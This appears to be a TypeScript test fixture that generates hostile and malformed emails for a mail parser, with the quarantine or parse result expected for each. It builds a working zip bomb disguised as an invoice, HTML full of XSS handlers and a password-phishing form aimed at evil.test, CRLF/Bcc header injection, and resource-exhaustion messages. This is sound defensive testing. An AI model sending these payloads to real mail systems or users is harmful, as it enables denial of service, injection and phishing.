// Hostile and malformed mails, generated in code. Each item says what the parser must answer:
// a quarantine code, 'ok' (parsed, with sane output), or 'any' (either, as long as it is one of the two).
import { crc32, deflateRawSync } from 'node:zlib';
import type { QuarantineCode } from '../types.ts';

export type HostileMail = { name: string; raw: Buffer; expect: QuarantineCode | 'ok' | 'any' };

const CRLF = '\r\n';
const head = (extra = '') => `From: Mallory <mallory@evil.test>${CRLF}To: support@example.test${CRLF}Subject: hostile${CRLF}Message-ID: <h-${Math.random().toString(36).slice(2)}@evil.test>${CRLF}${extra}`;
const b = (s: string) => Buffer.from(s, 'utf8');
const latin = (s: string) => Buffer.from(s, 'latin1');
const cp1251 = (s: string) => Buffer.from([...s].map((c) => (c >= 'А' && c <= 'я' ? c.charCodeAt(0) - 0x410 + 0xc0 : c === 'ё' ? 0xb8 : c.charCodeAt(0) & 0xff)));

/** A real zip of one file: `size` zero bytes, deflated to a few kilobytes. */
export function zipBomb(size: number): Buffer {
  const data = Buffer.alloc(size);
  const comp = deflateRawSync(data, { level: 9 });
  const name = Buffer.from('zeros.bin');
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14); local.writeUInt32LE(comp.length, 18); local.writeUInt32LE(size, 22); local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16); central.writeUInt32LE(comp.length, 20); central.writeUInt32LE(size, 24); central.writeUInt16LE(name.length, 28);
  const cdOffset = local.length + name.length + comp.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12); end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, name, comp, central, name, end]);
}

function nestedMultipart(levels: number): string {
  let s = `${head()}MIME-Version: 1.0${CRLF}Content-Type: multipart/mixed; boundary="b0"${CRLF}${CRLF}`;
  for (let i = 1; i < levels; i++) s += `--b${i - 1}${CRLF}Content-Type: multipart/mixed; boundary="b${i}"${CRLF}${CRLF}`;
  s += `--b${levels - 1}${CRLF}Content-Type: text/plain${CRLF}${CRLF}deep${CRLF}`;
  for (let i = levels - 1; i >= 0; i--) s += `--b${i}--${CRLF}`;
  return s;
}

function nestedRfc822(levels: number): string {
  let s = '';
  for (let i = 0; i < levels; i++) s += `From: a${i}@x.test${CRLF}Subject: level ${i}${CRLF}Content-Type: message/rfc822${CRLF}${CRLF}`;
  return `${head()}Content-Type: message/rfc822${CRLF}${CRLF}${s}From: last@x.test${CRLF}${CRLF}bottom${CRLF}`;
}

function manyParts(n: number): string {
  let s = `${head()}Content-Type: multipart/mixed; boundary="p"${CRLF}${CRLF}`;
  for (let i = 0; i < n; i++) s += `--p${CRLF}Content-Type: text/plain${CRLF}${CRLF}part ${i}${CRLF}`;
  return s + `--p--${CRLF}`;
}

const mixed = (parts: string[], boundary = 'mix') =>
  `${head()}MIME-Version: 1.0${CRLF}Content-Type: multipart/mixed; boundary="${boundary}"${CRLF}${CRLF}` + parts.map((p) => `--${boundary}${CRLF}${p}${CRLF}`).join('') + `--${boundary}--${CRLF}`;

const HOSTILE_HTML = [
  '<html><head><title>t</title><meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  '<style>body{background:url(https://evil.test/track.png)}</style><link rel="stylesheet" href="https://evil.test/x.css"></head>',
  '<body onload="steal()"><script>alert(document.cookie)</script><p style="background-image:url(https://evil.test/p.png);color:red">Hello</p>',
  '<img src="x" onerror="alert(1)"><img src="data:image/png;base64,AAAA"><img src="https://evil.test/pixel.gif" alt="pixel">',
  '<a href="javascript:alert(1)">click</a><a href="JaVaScRiPt&#58;alert(1)">click2</a><a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<a href="vbscript:msgbox(1)">vb</a><iframe src="https://evil.test"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.test/phish"><input name="password" type="password"><button>Login</button></form>',
  '<svg onload="alert(1)"><script>alert(2)</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<div onmouseover="x()" style="position:fixed;top:0">over</div><p>end</p></body></html>',
].join('\n');

export function hostileCorpus(): HostileMail[] {
  const items: HostileMail[] = [];
  const add = (name: string, raw: Buffer | string, expect: HostileMail['expect']) => items.push({ name, raw: typeof raw === 'string' ? b(raw) : raw, expect });

  add('missing closing boundary', `${head()}Content-Type: multipart/mixed; boundary="x"${CRLF}${CRLF}--x${CRLF}Content-Type: text/plain${CRLF}${CRLF}first${CRLF}--x${CRLF}Content-Type: text/html${CRLF}${CRLF}<p>second`, 'ok');
  add('boundary never declared', `${head()}Content-Type: multipart/mixed${CRLF}${CRLF}--zzz${CRLF}Content-Type: text/plain${CRLF}${CRLF}text${CRLF}--zzz--${CRLF}`, 'any');
  add('garbage headers', `${head()}this is not a header${CRLF}:::::${CRLF}${'X'.repeat(5000)}${CRLF}Content-Type: ;;;;=;=${CRLF}\t\tcontinued garbage${CRLF}${CRLF}body`, 'any');
  add('NUL bytes', `${head('X-Nul: a\u0000b\r\n')}Content-Type: text/plain${CRLF}${CRLF}text\u0000with\u0000nuls${CRLF}`, 'ok');
  add('bare CR and LF mixed', `From: a@x.test\rTo: b@x.test\nSubject: mix\r\n\rContent-Type: text/plain\n\r\nline1\rline2\nline3\r\n`, 'any');
  add('1 MB header', `${head()}X-Big: ${'A'.repeat(1024 * 1024)}${CRLF}${CRLF}body${CRLF}`, 'header_too_large');
  add('10k headers', `${head()}${Array.from({ length: 10000 }, (_, i) => `X-H${i}: v${CRLF}`).join('')}${CRLF}body${CRLF}`, 'any');
  add('150 nested multiparts', nestedMultipart(150), 'too_deep');
  add('5000 parts', manyParts(5000), 'too_many_parts');
  add('20 MB base64 in one line', mixed([`Content-Type: text/plain${CRLF}${CRLF}see attachment`, `Content-Type: application/octet-stream; name="big.bin"${CRLF}Content-Transfer-Encoding: base64${CRLF}Content-Disposition: attachment; filename="big.bin"${CRLF}${CRLF}${'QUJD'.repeat(5 * 1024 * 1024)}`]), 'any'); // ok when the machine is quick enough
  add('base64 garbage', mixed([`Content-Type: text/plain${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}!!!@@@###$$$%%%^^^&&&***((()))${CRLF}====AAA=B=${CRLF}`, `Content-Type: image/png; name="x.png"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${'\u00ff\u00fe garbage ~~~'.repeat(1000)}`]), 'ok');
  add('quoted-printable garbage', `${head()}Content-Type: text/plain; charset=utf-8${CRLF}Content-Transfer-Encoding: quoted-printable${CRLF}${CRLF}=ZZ=Q=${CRLF}=4=${CRLF}=E2=82 broken =C3${CRLF}${'='.repeat(1000)}${CRLF}`, 'ok');
  add('zip bomb attachment', Buffer.concat([b(`${head()}Content-Type: multipart/mixed; boundary="z"${CRLF}${CRLF}--z${CRLF}Content-Type: text/plain${CRLF}${CRLF}invoice attached${CRLF}--z${CRLF}Content-Type: application/zip; name="invoice.zip"${CRLF}Content-Transfer-Encoding: base64${CRLF}Content-Disposition: attachment; filename="invoice.zip"${CRLF}${CRLF}`), b(zipBomb(20 * 1024 * 1024).toString('base64').replace(/.{76}/g, `$&${CRLF}`)), b(`${CRLF}--z--${CRLF}`)]), 'ok');
  add('nested message/rfc822 bomb', nestedRfc822(100), 'too_deep');
  add('message/rfc822 wide bomb', mixed(Array.from({ length: 300 }, (_, i) => `Content-Type: message/rfc822${CRLF}${CRLF}${mixed([`Content-Type: text/plain${CRLF}${CRLF}inner ${i}`], `in${i}`)}`)), 'too_many_parts');
  add('scripts and handlers in HTML', `${head()}Content-Type: text/html; charset=utf-8${CRLF}${CRLF}${HOSTILE_HTML}`, 'ok');
  add('duplicate From', `From: first@x.test${CRLF}From: Second <SECOND@x.test>${CRLF}To: support@example.test${CRLF}Subject: two froms${CRLF}${CRLF}body`, 'ok');
  add('CRLF injection in encoded word', `From: =?utf-8?B?${Buffer.from('Evil\r\nBcc: victim@x.test').toString('base64')}?= <evil@x.test>${CRLF}To: support@example.test${CRLF}Subject: =?utf-8?Q?Hi=0D=0ABcc:_victim@x.test=00?=${CRLF}${CRLF}body`, 'ok');
  add('10k Message-ID', `${head().replace(/Message-ID: [^\r]*\r\n/, '')}Message-ID: <${'a'.repeat(10000)}@x.test>${CRLF}In-Reply-To: <${'b'.repeat(10000)}@x.test>${CRLF}References: ${Array.from({ length: 2000 }, (_, i) => `<r${i}@x.test>`).join(' ')}${CRLF}${CRLF}body`, 'ok');
  add('unknown charset', Buffer.concat([b(`${head()}Content-Type: text/plain; charset=x-klingon-8${CRLF}${CRLF}`), cp1251('Привет, это текст письма в неизвестной кодировке'), b(CRLF)]), 'ok');
  add('mixed and wrong charsets', Buffer.concat([b(`${head()}Content-Type: multipart/alternative; boundary="c"${CRLF}${CRLF}--c${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}`), cp1251('не utf-8 вовсе'), b(`${CRLF}--c${CRLF}Content-Type: text/html; charset=koi8-r${CRLF}${CRLF}<p>`), b('это utf-8'), b(`</p>${CRLF}--c--${CRLF}`)]), 'ok');
  add('empty mail', Buffer.alloc(0), 'any');
  add('only headers', `From: a@x.test${CRLF}Subject: no body${CRLF}To: b@x.test`, 'ok');
  add('8-bit headers', Buffer.concat([b('From: '), cp1251('Иван Петров'), b(` <ivan@x.test>${CRLF}Subject: `), cp1251('Вопрос по заказу'), b(`${CRLF}To: support@example.test${CRLF}${CRLF}body${CRLF}`)]), 'ok');
  add('RFC 2047 abuse', `From: =?utf-8?B?!!!?= =?x-unknown?Q?abc?= <a@x.test>${CRLF}To: support@example.test${CRLF}Subject: ${Array.from({ length: 3000 }, () => '=?utf-8?B?0J/RgNC40LLQtdGC?=').join(' ')} =?utf-8?Q?=E2=82?= =?=?utf-8?B?Pz0=?=?= =?utf-8?B?${'A'.repeat(50000)}?=${CRLF}${CRLF}body`, 'ok');
  add('attachment over the limit', mixed([`Content-Type: application/octet-stream; name="big.bin"${CRLF}Content-Disposition: attachment${CRLF}${CRLF}${('A'.repeat(998) + CRLF).repeat(27 * 1024)}`]), 'attachment_too_large');
  add('boundary-like line flood', mixed([`Content-Type: text/plain${CRLF}${CRLF}${`--mi${CRLF}--mixx${CRLF}--${CRLF}`.repeat(60000)}`]), 'any');
  add('10 MB line without newline', `${head()}Content-Type: text/plain${CRLF}${CRLF}${'word '.repeat(2 * 1024 * 1024)}`, 'any');
  add('deeply nested HTML', `${head()}Content-Type: text/html${CRLF}${CRLF}${'<div><blockquote>'.repeat(20000)}x`, 'any');
  add('forged DSN', `${head()}Content-Type: multipart/report; report-type=delivery-status; boundary="r"${CRLF}${CRLF}--r${CRLF}Content-Type: message/delivery-status${CRLF}${CRLF}Action: ${'x'.repeat(5000)}${CRLF}Status: 99.99.99999${CRLF}--r${CRLF}Content-Type: text/rfc822-headers${CRLF}${CRLF}Message-ID: <${'m'.repeat(9000)}>${CRLF}--r--${CRLF}`, 'ok');
  add('weird boundary characters', `${head()}Content-Type: multipart/mixed; boundary="(.*)+?[]{}|\\\\^$"${CRLF}${CRLF}--(.*)+?[]{}|\\^$${CRLF}Content-Type: text/plain${CRLF}${CRLF}ok${CRLF}--(.*)+?[]{}|\\^$--${CRLF}`, 'ok');
  add('latin1 bytes declared utf-8 subject', Buffer.concat([latin(`${head().replace('Subject: hostile', 'Subject: caf\u00e9 d\u00e9j\u00e0')}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}na\u00efve r\u00e9sum\u00e9${CRLF}`)]), 'ok');
  return items;
}
